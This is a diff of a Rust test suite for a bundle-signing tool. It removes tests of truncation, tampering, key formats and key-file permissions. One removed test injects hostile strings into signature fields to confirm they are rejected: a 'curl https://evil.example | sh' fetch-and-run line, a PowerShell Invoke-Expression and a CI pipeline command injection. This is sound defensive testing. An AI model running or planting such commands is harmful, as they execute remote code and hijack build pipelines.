@@ -1,5 +1,9 @@
 //! `dvpack sign` and what `verify` and `apply` make of signatures.
 
+mod damage;
+mod keys;
+mod records;
+
 use std::path::{Path, PathBuf};
 use std::process::Command;
 use std::sync::OnceLock;
@@ -171,56 +175,6 @@ fn a_signature_moved_to_another_bundle_does_not_hold() {
 }
 
 #[test]
-fn every_truncation_is_found() {
-    let bench = bench();
-    let good = bench.read("p256.dvpack");
-    let key = PublicKey::read(&bench.path("p256.pub")).expect("a key");
-    let trust = Trust { keys: vec![key], ..Trust::default() };
-    let accepted =
-        |bytes: &[u8]| Bundle::from_bytes(bytes, "it").is_ok_and(|it| verify_policy(bytes, &it, &trust).is_ok());
-    assert!(accepted(&good));
-    let mut numbers = Numbers(7);
-    for length in (0..200).map(|_| numbers.below(good.len())).chain(good.len() - 60..good.len()) {
-        assert!(!accepted(&good[..length]), "cut to {length} bytes");
-    }
-    // Cut back to before its signatures it is the unsigned bundle, and says so.
-    let unsigned = dvpack::bundle::signature::unsigned(&good).expect("unsigned");
-    assert_eq!(unsigned, bench.read("it.dvpack"));
-}
-
-#[test]
-fn every_changed_byte_is_found() {
-    let bench = bench();
-    let good = bench.read("p256.dvpack");
-    let mut numbers = Numbers(6);
-    for round in 0..200 {
-        let at = numbers.below(good.len());
-        let mut bytes = good.clone();
-        bytes[at] ^= u8::try_from(1 + numbers.below(255)).expect("a byte");
-        let ran = bench.test(&bytes).args("verify it.dvpack --key p256.pub").run();
-        assert_eq!(ran.code, 3, "round {round}: byte {at} was changed\n{}{}", ran.stdout, ran.stderr);
-    }
-}
-
-#[test]
-fn every_byte_of_the_records_of_a_signature_is_checked() {
-    let bench = bench();
-    let good = bench.read("ed25519.dvpack");
-    let key = PublicKey::read(&bench.path("ed25519.pub")).expect("a key");
-    let trust = Trust { keys: vec![key], ..Trust::default() };
-    let start = good.windows(11).position(|window| window == b"signatures/").expect("there") - 30;
-    // The records of the list of files, whole, and the first bytes of the signature's own entry.
-    let list = good.windows(4).position(|window| window == b"PK\x01\x02").expect("there");
-    for at in (start..start + 60).chain(list..good.len()) {
-        let mut bytes = good.clone();
-        bytes[at] ^= 1;
-        let accepted =
-            Bundle::from_bytes(&bytes, "it").is_ok_and(|bundle| verify_policy(&bytes, &bundle, &trust).is_ok());
-        assert!(!accepted, "byte {at} was changed");
-    }
-}
-
-#[test]
 fn a_policy_says_what_a_key_may_sign() {
     let bench = bench();
     let signed = bench.read("p256.dvpack");
@@ -335,67 +289,6 @@ fn a_bundle_that_the_source_does_not_give_is_not_signed() {
     assert!(ran.stderr.contains("the source gives other files: `bundle.json`"), "{}", ran.stderr);
 }
 
-#[test]
-fn every_form_of_a_key_is_read_and_other_keys_are_named() {
-    let folder = tempfile::tempdir().expect("a folder");
-    let at = folder.path();
-    openssl(at, &["ecparam", "-name", "prime256v1", "-genkey", "-noout", "-out", "sec1.pem"]);
-    openssl(at, &["pkcs8", "-topk8", "-in", "sec1.pem", "-passout", "pass:sesame", "-out", "encrypted.pem"]);
-    openssl(at, &["pkcs8", "-topk8", "-scrypt", "-in", "sec1.pem", "-passout", "pass:sesame", "-out", "scrypt.pem"]);
-    openssl(at, &["ec", "-in", "sec1.pem", "-aes128", "-passout", "pass:sesame", "-out", "old.pem"]);
-    openssl(at, &["genpkey", "-algorithm", "EC", "-pkeyopt", "ec_paramgen_curve:P-384", "-out", "p384.pem"]);
-    openssl(at, &["pkey", "-in", "sec1.pem", "-pubout", "-out", "key.pub"]);
-    for name in ["sec1.pem", "encrypted.pem", "scrypt.pem", "old.pem", "p384.pem"] {
-        set_mode(&at.join(name), 0o600);
-    }
-    let wanted = PublicKey::read(&at.join("key.pub")).expect("a key");
-    let read =
-        |name: &str, passphrase: Option<&str>| SigningKey::read(&at.join(name), &mut || passphrase.map(Secret::new));
-    for name in ["sec1.pem", "encrypted.pem", "scrypt.pem"] {
-        let key = read(name, Some("sesame")).unwrap_or_else(|error| panic!("{name}: {error}"));
-        assert_eq!(*key.public(), wanted, "{name}");
-    }
-    let why = |name: &str, passphrase: Option<&str>| read(name, passphrase).expect_err(name).why;
-    assert_eq!(why("encrypted.pem", None), "it is encrypted, and there is no passphrase");
-    assert!(why("encrypted.pem", Some("open")).starts_with("the passphrase does not open it"));
-    assert_eq!(why("old.pem", Some("sesame")), "it is encrypted in OpenSSL's old format");
-    assert_eq!(why("p384.pem", None), "it is neither an ECDSA P-256 nor an Ed25519 key");
-    assert_eq!(why("key.pub", None), "it holds no `BEGIN PRIVATE KEY` block");
-    assert_eq!(
-        PublicKey::read(&at.join("sec1.pem")).expect_err("private").why,
-        "it is a private key, and a public one is wanted"
-    );
-}
-
-#[cfg(unix)]
-#[test]
-fn a_private_key_that_others_can_read_or_replace_is_refused_with_the_command_that_helps() {
-    let bench = bench();
-    let signed = |name: &str, mode: u32| {
-        let test = bench.test(&bench.read("it.dvpack")).file(name, bench.read("ed25519.pem"));
-        set_mode(&test.path().join(name), mode);
-        test.args("sign it.dvpack --key").arg(name).run()
-    };
-    for mode in [0o644, 0o640, 0o604, 0o444, 0o440, 0o404, 0o777, 0o755] {
-        let ran = signed("key.pem", mode);
-        assert_eq!(ran.code, 2, "{mode:o}: {}", ran.stderr);
-        let expected = format!(
-            "error: cannot use the key `key.pem`: it is a private key that other users of this machine can read (mode {mode:04o})\n \
-             help: allow only yourself to read it: chmod 600 -- 'key.pem'\n"
-        );
-        assert_eq!(ran.stderr, expected);
-        assert_eq!(ran.read("it.dvpack"), bench.read("it.dvpack"), "{mode:o}: it was signed");
-    }
-    assert!(signed("key.pem", 0o620).stderr.contains("other users of this machine can replace"));
-    for mode in [0o600, 0o400, 0o700] {
-        assert_eq!(signed("key.pem", mode).code, 0, "{mode:o}");
-    }
-    assert!(signed("it's a key.pem", 0o644).stderr.contains("chmod 600 -- 'it'\\''s a key.pem'"));
-    // The public half is for everybody; that it does not sign is another error.
-    let public = bench.test(&bench.read("it.dvpack")).args("sign it.dvpack --key ed25519.pub").code(2);
-    assert!(public.stderr.contains("it holds no `BEGIN PRIVATE KEY` block"), "{}", public.stderr);
-}
-
 #[cfg(unix)]
 #[test]
 fn a_signed_bundle_keeps_the_mode_of_the_file_that_it_replaces() {
@@ -457,58 +350,4 @@ fn apply_looks_at_the_signature_before_it_signs_in() {
     assert!(ran.stderr.contains("the bundle is not signed"), "{}", ran.stderr);
     let ran = bench.test(&bench.read("p256.dvpack")).args("plan it.dvpack --sandbox --key p256.pub").code(10);
     assert!(!ran.stderr.contains("signed"), "{}", ran.stderr);
-}
-
-#[test]
-fn other_files_among_the_signatures_are_refused() {
-    let bench = bench();
-    let with =
-        archive::append(&bench.read("it.dvpack"), &[Entry::new("signatures/readme.txt", "x")]).expect("appended");
-    let ran = bench.test(&with).args("verify it.dvpack").code(3);
-    assert!(ran.stderr.contains("neither a signature nor a key"), "{}", ran.stderr);
-    // A statement that is not one, signed well.
-    let key = SigningKey::read(&bench.path("p256.pem"), &mut || None).expect("a key");
-    let bundle = Bundle::from_bytes(&bench.read("it.dvpack"), "it").expect("a bundle");
-    let builder = dvpack::bundle::provenance::Builder::detect(&|_| None);
-    let inputs = dvpack::bundle::provenance::Inputs::default();
-    let mut statement = dvpack::bundle::provenance::statement(&bundle, b"other", &inputs, &builder);
-    statement.predicate_type = "https://example.com/other".into();
-    let bytes = sign(&bench.read("it.dvpack"), &statement, &key).expect("signed");
-    let ran = bench.test(&bytes).args("verify it.dvpack --key p256.pub").code(3);
-    assert!(ran.stderr.contains("not build provenance"), "{}", ran.stderr);
-}
-
-/// Whatever else it says: what passes for a signature has no room for anything but one.
-#[test]
-fn a_signature_has_no_room_for_other_text() {
-    let bench = bench();
-    let signed = archive::read(&bench.read("p256.dvpack"), &Limits::default()).expect("read");
-    let good = signed.iter().find(|it| it.name.ends_with(".sigstore.json")).expect("a signature");
-    let json: serde_json::Value = serde_json::from_slice(&good.bytes).expect("JSON");
-    let text = |pointer: &str| json.pointer(pointer).and_then(serde_json::Value::as_str).expect(pointer).to_owned();
-    let said = String::from_utf8(good.bytes.clone()).expect("UTF-8");
-    let (payload, sig) = (text("/dsseEnvelope/payload"), text("/dsseEnvelope/signatures/0/sig"));
-    let (keyid, hint) = (text("/dsseEnvelope/signatures/0/keyid"), text("/verificationMaterial/publicKey/hint"));
-    let one = format!("{{\"sig\":\"{sig}\",\"keyid\":\"{keyid}\"}}");
-    for (from, to) in [
-        (payload.as_str(), "Invoke-Expression $env:X".to_owned()),
-        (&payload, "e30=".to_owned()),
-        (&payload, format!(" {payload}")),
-        (&sig, "curl https://evil.example | sh".to_owned()),
-        (&sig, "QUJD".repeat(4096)),
-        (&sig, String::new()),
-        (&keyid, "see https://evil.example".to_owned()),
-        (&hint, "##vso[task.complete]".to_owned()),
-        (&one, String::new()),
-        (&one, format!("{one},{one}")),
-    ] {
-        assert!(said.contains(from), "{from} is not in {said}");
-        let other = Entry::new("signatures/0123456789abcdef.sigstore.json", said.replacen(from, &to, 1));
-        let mut tail: Vec<Entry> = signed.iter().filter(|it| it.name.starts_with("signatures/")).cloned().collect();
-        tail.push(other);
-        tail.sort_by(|a, b| a.name.cmp(&b.name));
-        let bytes = archive::append(&bench.read("it.dvpack"), &tail).expect("appended");
-        let ran = bench.test(&bytes).args("verify it.dvpack --key p256.pub").code(3);
-        assert!(ran.stderr.contains("signatures/0123456789abcdef.sigstore.json"), "{to}: {}", ran.stderr);
-    }
 }
